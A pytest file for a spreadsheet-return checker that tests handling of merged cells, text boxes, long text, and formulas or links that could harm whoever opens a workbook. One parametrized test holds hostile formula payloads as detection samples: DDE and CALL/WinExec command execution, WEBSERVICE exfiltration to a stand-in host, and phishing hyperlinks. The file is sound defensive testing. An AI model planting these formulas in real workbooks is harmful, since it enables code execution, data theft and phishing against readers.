"""Nothing a respondent puts in a workbook goes unmentioned: merged answer cells, text boxes,
formulas and links that could harm whoever opens the return, and texts longer than a cell.

These returns are written as other programs write them: a built workbook filled by openpyxl,
then its XML changed the way Excel or LibreOffice store such things (hand-built where
LibreOffice cannot make them, such as a DDE formula with a harmless cached text). The same
edits made in a real LibreOffice are in tests/test_lo_objects.py.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import build, fill
from sheetkit.commands.ingest import IngestOptions, ingest_returns
from sheetkit.common.limits import TEXT_LIMIT
from sheetkit.framework.library import get_framework
from sheetkit.returns.cell_notes import sheet_parts
from sheetkit.returns.check import check_return
from sheetkit.returns.parts import risky_formula
from sheetkit.returns.reader import read_return
from sheetkit.workbook.plan import plan_workbook

DRAWING_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing"
LINK_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


@pytest.fixture
def lga(tmp_path):
    """A built lga-cbo workbook, its layout, and the evidence cells of its first section."""
    (built,) = build("lga-cbo", tmp_path / "built", names=("Housing",))
    layout = plan_workbook(get_framework("lga-cbo"))
    evidence = [a for a in layout.answers if a.field.level == "statement" and a.field.type == "text"]
    return built, layout, [a for a in evidence if a.sheet == evidence[0].sheet]


def patch(path: Path, out: Path, sheet: str | None = None, change=None, add: dict[str, str] | None = None) -> Path:
    """A copy of an .xlsx with one sheet's XML changed by `change(xml) -> xml` and parts added."""
    with zipfile.ZipFile(path) as source:
        part = sheet_parts(source, set(source.namelist()))[sheet] if sheet else None
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                data = source.read(info)
                if info.filename == part and change:
                    data = change(data.decode("utf-8")).encode("utf-8")
                target.writestr(info, data)
            for name, text in (add or {}).items():
                target.writestr(name, text)
    return out


def set_cell(xml: str, ref: str, body: str, kind: str = "inlineStr") -> str:
    """The sheet's XML with cell `ref` holding `body` (the XML inside <c>), as a program saves it."""
    cell = f'<c r="{ref}" t="{kind}">{body}</c>' if kind else f'<c r="{ref}">{body}</c>'
    found = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', xml, flags=re.S)
    if found:
        return xml[:found.start()] + cell + xml[found.end():]
    number = re.match(r"[A-Z]+(\d+)", ref)[1]
    row = re.search(rf'<row r="{number}"[^>]*>', xml)
    return xml[:row.end()] + cell + xml[row.end():]


def inline(text: str) -> str:
    return f"<is><t>{text}</t></is>"


def merge(xml: str, *ranges: str) -> str:
    cells = "".join(f'<mergeCell ref="{r}"/>' for r in ranges)
    return xml.replace("</sheetData>", f'</sheetData><mergeCells count="{len(ranges)}">{cells}</mergeCells>', 1)


def check(path: Path, layout):
    return check_return(read_return(str(path)), layout.framework)


def found(checked, code: str) -> list:
    return [f for f in checked.findings if f.code == code]


def test_answer_cells_merged_with_their_text_moved_into_the_first_are_not_read_as_its_answer(lga, tmp_path):
    built, layout, evidence = lga
    first, second, third, fourth = evidence[:4]
    filled = fill(built, tmp_path / "filled.xlsx", {third.key: "third's own", fourth.key: "fourth's own"})

    def change(xml):  # LibreOffice: merge, moving the hidden cells' contents into the first
        xml = set_cell(xml, first.cell, inline("evidence for 1.1 evidence for 1.2"))
        return merge(xml, f"{first.cell}:{second.cell}", f"{third.cell}:{fourth.cell}")

    checked = check(patch(filled, tmp_path / "merged.xlsx", first.sheet, change), layout)
    answers = {a.key: a for a in checked.answers}
    assert first.key not in answers and second.key not in answers, "the joined text is no one answer"
    (kept,) = [a for a in checked.answers if (a.sheet, a.cell) == (first.sheet, first.cell)]
    assert kept.field.level == "unplaced" and kept.text == "evidence for 1.1 evidence for 1.2"
    (joined,) = found(checked, "answers-merged")
    assert (joined.sheet, joined.cell) == (first.sheet, first.cell) and f"{first.cell}:{second.cell}" in joined.message
    # merged keeping the hidden cell's own text: each answer is where it was typed, with a warning
    assert answers[third.key].text == "third's own" and answers[fourth.key].text == "fourth's own"
    (kept_hidden,) = found(checked, "cells-merged")
    assert kept_hidden.cell == third.cell and answers[third.key].usable


def test_an_action_merged_with_its_owner_is_not_read_as_the_action(lga, tmp_path):
    built, layout, _ = lga
    action, owner = layout.action_cell(1, "action"), layout.action_cell(1, "owner")
    filled = fill(built, tmp_path / "filled.xlsx", {"action/2/action": "Second action", "action/2/owner": "Ann"})

    def change(xml):
        xml = set_cell(xml, action.cell, inline("Refresh the needs assessment Head of Commissioning"))
        return merge(xml, f"{action.cell}:{owner.cell}")

    checked = check(patch(filled, tmp_path / "merged.xlsx", action.sheet, change), layout)
    keys = {a.key: a.text for a in checked.answers}
    assert "action/1/action" not in keys and "action/1/owner" not in keys
    assert keys["action/2/action"] == "Second action" and keys["action/2/owner"] == "Ann"
    assert found(checked, "answers-merged")[0].cell == action.cell
    assert any(a.field.level == "unplaced" and a.text.endswith("Head of Commissioning") for a in checked.answers)


DRAWING = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">
<xdr:twoCellAnchor><xdr:from><xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff>
</xdr:from><xdr:to><xdr:col>7</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>
<xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="Text Box 1"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>
<xdr:spPr/><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>We also pool budgets</a:t></a:r></a:p>
<a:p><a:r><a:t>with Health &amp; Housing</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>
<xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff>
</xdr:from><xdr:ext cx="100" cy="100"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="3" name="Picture 2" descr="Our logo"/>
<xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill/><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor>
</xdr:wsDr>"""


def _drawn(part: str, target: str = "../drawings/drawing1.xml") -> dict[str, str]:
    name = part.rsplit("/", 1)[-1]
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId9" Type="{DRAWING_REL}" Target="{target}"/></Relationships>')
    return {f"xl/worksheets/_rels/{name}.rels": rels, "xl/drawings/drawing1.xml": DRAWING}


def test_a_text_box_on_a_section_sheet_is_reported_and_its_text_kept(lga, tmp_path):
    built, layout, evidence = lga
    filled = fill(built, tmp_path / "filled.xlsx", {evidence[0].key: "typed in the cell"})
    with zipfile.ZipFile(filled) as archive:
        part = sheet_parts(archive, set(archive.namelist()))[evidence[0].sheet]
    checked = check(patch(filled, tmp_path / "drawn.xlsx", add=_drawn(part)), layout)
    drawn = found(checked, "drawing-found")
    assert [(f.sheet, f.cell) for f in drawn] == [(evidence[0].sheet, "F10"), (evidence[0].sheet, "B3")]
    assert "text box" in drawn[0].message and "We also pool budgets" in drawn[0].message
    assert "picture" in drawn[1].message and "Our logo" in drawn[1].message
    kept = {a.key: a for a in checked.answers if a.field.id == "drawing"}
    assert kept[f"unplaced/{evidence[0].sheet}/F10/drawing 1"].text == "We also pool budgets\nwith Health & Housing"
    assert {a.key: a.text for a in checked.answers}[evidence[0].key] == "typed in the cell"


def test_a_text_box_on_an_added_sheet_is_counted_and_kept(lga, tmp_path):
    built, layout, _ = lga
    workbook = openpyxl.load_workbook(fill(built, tmp_path / "filled.xlsx", {}))
    workbook.create_sheet("Our notes")
    workbook.save(tmp_path / "added.xlsx")
    with zipfile.ZipFile(tmp_path / "added.xlsx") as archive:
        part = sheet_parts(archive, set(archive.namelist()))["Our notes"]
    checked = check(patch(tmp_path / "added.xlsx", tmp_path / "drawn.xlsx", add=_drawn(part)), layout)
    (extra,) = found(checked, "extra-sheet")
    assert "its 0 filled cells and 2 drawings or text boxes" in extra.message
    assert [f.sheet for f in found(checked, "drawing-found")] == ["Our notes", "Our notes"]
    assert any(a.sheet == "Our notes" and "pool budgets" in a.text for a in checked.answers)


@pytest.mark.parametrize("formula, why", [
    ("cmd|' /C calc'!A0", "DDE"),
    ('HYPERLINK("http://phish.example/login","Our strategy")', "HYPERLINK"),
    ('_xlfn.WEBSERVICE("http://x.example/?"&A1)', "WEBSERVICE"),
    ("[1]Sheet1!$A$1", "another file"),
    ("'file:///C:/secret.xlsx'#$Sheet1.A1", "another file"),
    ("FILTERXML(A1,\"//a\")", "FILTERXML"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"),
])
def test_formulas_that_could_harm_the_reader_are_reported_and_their_value_not_counted(lga, tmp_path, formula, why):
    built, layout, evidence = lga
    rating = next(a for a in layout.answers if a.field.type == "rating" and a.sheet == evidence[0].sheet)
    filled = fill(built, tmp_path / "filled.xlsx", {evidence[1].key: "plain evidence"})
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")

    def change(xml):
        return set_cell(xml, evidence[0].cell, f"<f>{escaped}</f><v>See our strategy</v>", kind="str")

    checked = check(patch(filled, tmp_path / "formula.xlsx", evidence[0].sheet, change), layout)
    (unsafe,) = found(checked, "formula-unsafe")
    assert (unsafe.sheet, unsafe.cell) == (evidence[0].sheet, evidence[0].cell) and why in unsafe.message
    assert formula.split("(")[0].split("|")[0] in unsafe.message
    answers = {a.key: a for a in checked.answers}
    assert answers[evidence[0].key].text == "See our strategy" and not answers[evidence[0].key].usable
    assert answers[evidence[1].key].usable and rating.key not in answers


def test_ordinary_formulas_are_not_called_harmful():
    for formula in ("SUM(A1:A3)", 'A1&" see http://example.org"', 'COUNTA(\'1 Person-centred\'!D6:D40)&" of 9"',
                    "IF(A1>2,\"High\",\"Low\")", "'Action plan'!B5", 'TEXT(A1,"[h]:mm")', "[.A1]+[.B2]"):
        assert risky_formula(formula) == "", formula


def test_a_shared_risky_formula_is_reported_on_every_cell_that_shares_it(lga, tmp_path):
    built, layout, evidence = lga
    a, b = evidence[0], evidence[1]

    def change(xml):
        xml = set_cell(xml, a.cell, f'<f t="shared" ref="{a.cell}:{b.cell}" si="0">HYPERLINK("http://x.example")</f>'
                                    f"<v>x</v>", kind="str")
        return set_cell(xml, b.cell, '<f t="shared" si="0"/><v>y</v>', kind="str")

    checked = check(patch(fill(built, tmp_path / "f.xlsx", {}), tmp_path / "s.xlsx", a.sheet, change), layout)
    assert [f.cell for f in found(checked, "formula-unsafe")] == [a.cell, b.cell]


def test_links_and_external_link_parts_are_reported(lga, tmp_path):
    built, layout, evidence = lga
    filled = fill(built, tmp_path / "filled.xlsx", {evidence[0].key: "our strategy"})
    with zipfile.ZipFile(filled) as archive:
        part = sheet_parts(archive, set(archive.namelist()))[evidence[0].sheet]
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId3" Type="{LINK_REL}" Target="http://phish.example/x" '
            f'TargetMode="External"/></Relationships>')

    def change(xml):
        return xml.replace("</sheetData>", '</sheetData><hyperlinks><hyperlink ref="' + evidence[0].cell +
                           '" r:id="rId3" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                           'relationships"/></hyperlinks>', 1)

    add = {f"xl/worksheets/_rels/{part.rsplit('/', 1)[-1]}.rels": rels,
           "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/'
                                                 'spreadsheetml/2006/main"/>'}
    checked = check(patch(filled, tmp_path / "linked.xlsx", evidence[0].sheet, change, add), layout)
    (link,) = found(checked, "cell-link")
    assert (link.sheet, link.cell) == (evidence[0].sheet, evidence[0].cell) and "http://phish.example/x" in link.message
    assert {a.key: a for a in checked.answers}[evidence[0].key].usable, "a link on typed text is only mentioned"
    (external,) = found(checked, "formula-unsafe")
    assert "externalLink1.xml" in external.message and not external.sheet


def test_long_text_is_read_whole_from_the_file_and_kept_whole_in_the_csv(lga, tmp_path):
    built, layout, evidence = lga
    rating = next(a for a in layout.answers if a.field.type == "rating")
    long_text, at_limit = "x" * 40_000 + " the end", "y" * TEXT_LIMIT
    in_rating = "4 " + "z" * 33_000

    def change(xml):
        xml = set_cell(xml, evidence[0].cell, inline(long_text))
        return set_cell(xml, evidence[1].cell, inline(at_limit))

    filled = patch(fill(built, tmp_path / "filled.xlsx", {}), tmp_path / "p.xlsx", evidence[0].sheet, change)
    filled = patch(filled, tmp_path / "long.xlsx", rating.sheet,
                   lambda xml: set_cell(xml, rating.cell, inline(in_rating)))
    checked = check(filled, layout)
    answers = {a.key: a for a in checked.answers}
    assert answers[evidence[0].key].text == long_text and answers[rating.key].text == in_rating
    assert {f.cell for f in found(checked, "text-too-long")} == {evidence[0].cell, rating.cell}
    (cut,) = found(checked, "text-at-limit")
    assert cut.cell == evidence[1].cell and "probably cut" in cut.message
    # ingest without --csv: the consolidated workbook cuts the long texts, so the CSV beside it is written
    returns = tmp_path / "returns"
    returns.mkdir()
    filled.rename(returns / "housing.xlsx")
    out = tmp_path / "out" / "consolidated.xlsx"
    report = ingest_returns([str(returns)], IngestOptions(out=out))
    assert report.csv == out.with_name("consolidated - Responses.csv") and report.csv.is_file()
    csv_text = report.csv.read_text(encoding="utf-8-sig")
    assert long_text in csv_text and in_rating in csv_text


VML = """<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
 xmlns:x="urn:schemas-microsoft-com:office:excel">
<v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute"><v:textbox><div>The comment's own box</div>
</v:textbox><x:ClientData ObjectType="Note"><x:Anchor>3, 15, 1, 2, 5, 15, 5, 16</x:Anchor><x:Row>1</x:Row>
<x:Column>2</x:Column></x:ClientData></v:shape>
<v:shape id="_x0000_s1026" type="#_x0000_t202" style="position:absolute"><v:textbox><div>Legacy text box<br>
second line</div></v:textbox><x:ClientData ObjectType="Text"><x:Anchor>4, 0, 7, 0, 6, 0, 9, 0</x:Anchor>
</x:ClientData></v:shape></xml>"""


def test_a_legacy_text_box_is_reported_but_a_comment_s_own_box_is_not(lga, tmp_path):
    """Older Excel stores text boxes, form controls and comments' boxes as VML; comments are read as comments."""
    built, layout, evidence = lga
    filled = fill(built, tmp_path / "filled.xlsx", {})
    with zipfile.ZipFile(filled) as archive:
        part = sheet_parts(archive, set(archive.namelist()))[evidence[0].sheet]
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId1" Type="{DRAWING_REL.replace("drawing", "vmlDrawing")}" '
            f'Target="../drawings/vmlDrawing1.vml"/></Relationships>')
    add = {f"xl/worksheets/_rels/{part.rsplit('/', 1)[-1]}.rels": rels, "xl/drawings/vmlDrawing1.vml": VML}
    checked = check(patch(filled, tmp_path / "vml.xlsx", add=add), layout)
    (drawn,) = found(checked, "drawing-found")
    assert (drawn.sheet, drawn.cell) == (evidence[0].sheet, "E8") and "form control (text)" in drawn.message
    (kept,) = [a for a in checked.answers if a.field.id == "drawing"]
    assert kept.text == "Legacy text box\nsecond line"


def test_a_part_that_cannot_be_read_costs_only_what_it_holds(lga, tmp_path):
    built, layout, evidence = lga
    filled = fill(built, tmp_path / "filled.xlsx", {evidence[0].key: "still read"})
    with zipfile.ZipFile(filled) as archive:
        part = sheet_parts(archive, set(archive.namelist()))[evidence[0].sheet]
    broken = dict(_drawn(part), **{"xl/drawings/drawing1.xml": "<xdr:wsDr><not closed"})
    checked = check(patch(filled, tmp_path / "broken.xlsx", add=broken), layout)
    assert checked.status == "accepted"
    (finding,) = found(checked, "parts-unreadable")
    assert not finding.is_error and "ParseError" in finding.message
    assert {a.key: a.text for a in checked.answers}[evidence[0].key] == "still read"
